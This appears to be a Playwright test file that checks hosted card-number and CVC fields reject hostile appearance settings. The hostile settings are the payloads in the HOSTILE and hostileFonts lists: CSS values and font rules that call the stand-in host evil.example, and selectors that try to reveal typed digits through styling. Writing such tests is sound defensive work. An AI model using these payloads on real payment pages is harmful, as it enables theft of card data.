import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import type { Page } from '@playwright/test';
import { expect, test } from '../../fixtures/test.ts';
import { frameSizes } from '../../support/frame-sizes.ts';

const KINDS = ['card-number', 'card-cvc'];

/** Every request of a page, its frames' included, from now on. */
function requestsOf(page: Page): string[] {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  return requests;
}

/** Looks that try to fetch something, or to tell what is typed by what they look like. The SDK is not asked; the frame's port is. */
const HOSTILE = [
  { backgroundColor: 'url(https://evil.example/a)' },
  { backgroundColor: 'url(//evil.example/l)' },
  { color: 'image-set("https://evil.example/b" 1x)' },
  { fontFamily: 'x; } @font-face { font-family: x; src: url(https://evil.example/c); unicode-range: U+34' },
  { padding: '0 12px; background: url(https://evil.example/d)' },
  { caretColor: String.raw`\75\72\6c(https://evil.example/e)` },
  { rules: { input: { 'background-color': 'url(https://evil.example/f)' } } },
  { rules: { input: { width: 'fit-content' } } },
  { rules: { 'input[value^="4"]': { color: 'red' } } },
  { rules: { input: { color: 'attr(value)' } } },
  { rules: { placeholder: { color: 'var(--ff-color, url(https://evil.example/g))' } } },
];

test('no look that a page asks for makes a request, or changes a size by what is typed', async ({
  fieldsPage,
  newWindow,
}) => {
  const page = await newWindow();
  const fields = await fieldsPage({ kinds: KINDS }, {}, page);
  const requests = requestsOf(page);
  for (const appearance of HOSTILE) await fields.update({ appearance });
  // Each frame refuses each of them by itself; its policy, under which nothing would be fetched, is the second line.
  const refused = async () => (await fields.heard('error')).map(({ detail }) => detail);
  await expect.poll(refused).toEqual(KINDS.flatMap(() => HOSTILE.map(() => 'setup_refused')));
  const number = fields.frame('card-number').getByLabel('Card number');
  const before = await frameSizes(number);
  for (const digit of '4242424242424241') {
    await number.press(digit);
    expect(await frameSizes(number)).toBe(before);
  }
  await expect(number).toHaveAttribute('aria-invalid', 'true');
  expect(requests).toEqual([]);
});

const FONT = createRequire(import.meta.url).resolve('@fontsource/space-mono/files/space-mono-latin-400-normal.woff2');

/** Ways to have a font tell what is typed: a face of the page's own, a part of one, another file for another digit, another size. */
const hostileFonts = (family: string): object[] => [
  { fontFamily: `'${family}', url(https://evil.example/h)` },
  { fontFamily: `'${family}'; src: url(https://evil.example/i); unicode-range: U+34` },
  { fontFamily: `'${family}', 'Not Uploaded', local(Evil)` },
  { fontFamily: `'../${family}', '${family}.woff2?4'` },
  { rules: { '@font-face': { src: 'url(https://evil.example/j)' } } },
  { rules: { input: { font: `400 99px '${family}'` } } },
  { rules: { input: { 'font-family': `x, url(https://evil.example/k)` } } },
];

test('a merchant’s own font is fetched before the first key; what a page then says of fonts fetches nothing, and no digit changes a size', async ({
  api,
  fieldsPage,
  newWindow,
  stack,
}) => {
  const family = `Hostile ${crypto.randomUUID().slice(0, 8)}`;
  const data = (await readFile(FONT)).toString('base64');
  const owner = await api.asOwner();
  const uploaded = await api.call<{ id: string }>('POST', '/fonts', {
    ...owner,
    body: { family, weight: 400, style: 'normal', data },
  });
  expect(uploaded.status, uploaded.text).toBe(201);
  try {
    // A field document is remembered for ten seconds by its server.
    await expect(async () => {
      const page = await newWindow();
      const fetched = requestsOf(page);
      const options = { appearance: { fontFamily: `'${family}', monospace` } };
      const fields = await fieldsPage({ kinds: KINDS, options }, {}, page);
      const number = fields.frame('card-number').getByLabel('Card number');
      const loaded = () => number.evaluate(() => [...document.fonts].map(({ status }) => status));
      await expect.poll(loaded, { timeout: 3_000 }).toEqual(['loaded']);
      expect(fetched.filter((url) => url.startsWith(`${stack.fields}/fields/v1/fonts/`))).not.toEqual([]);
      const requests = requestsOf(page);
      for (const appearance of hostileFonts(family)) await fields.update({ appearance });
      const before = await frameSizes(number);
      for (const digit of '4242424242424241') {
        await number.press(digit);
        expect(await frameSizes(number)).toBe(before);
      }
      expect(await number.evaluate((input) => getComputedStyle(input).fontSize)).not.toBe('99px');
      expect(await loaded()).toEqual(['loaded']);
      expect(requests).toEqual([]);
    }).toPass({ timeout: 60_000 });
  } finally {
    await api.call('DELETE', `/fonts/${uploaded.body.id}`, owner);
  }
});

test('themes, variables and rules reach a field while it stands', async ({ fieldsPage, newWindow }) => {
  const page = await newWindow();
  await page.emulateMedia({ colorScheme: 'light' });
  const fields = await fieldsPage({ kinds: KINDS, options: { appearance: { theme: 'system' } } }, {}, page);
  const number = fields.frame('card-number').getByLabel('Card number');
  const body = fields.frame('card-number').locator('body');
  await expect(body).toHaveCSS('background-color', 'rgb(255, 255, 255)');
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect(body).toHaveCSS('background-color', 'rgb(27, 29, 33)');
  await fields.update({ appearance: { theme: 'light', color: 'rgb(1, 2, 3)', labels: 'floating' } });
  await expect(number).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(fields.frame('card-number').getByText('Card number')).toBeVisible();
  await fields.update({
    appearance: { rules: { 'input:focus': { 'letter-spacing': '3px' }, icon: { opacity: '0.5' } } },
  });
  await number.focus();
  await expect(number).toHaveCSS('letter-spacing', '3px');
  await expect(fields.frame('card-number').locator('svg')).toHaveCSS('opacity', '0.5');
  await fields.update({ appearance: { rules: {} } });
  await expect(number).not.toHaveCSS('letter-spacing', '3px');
});
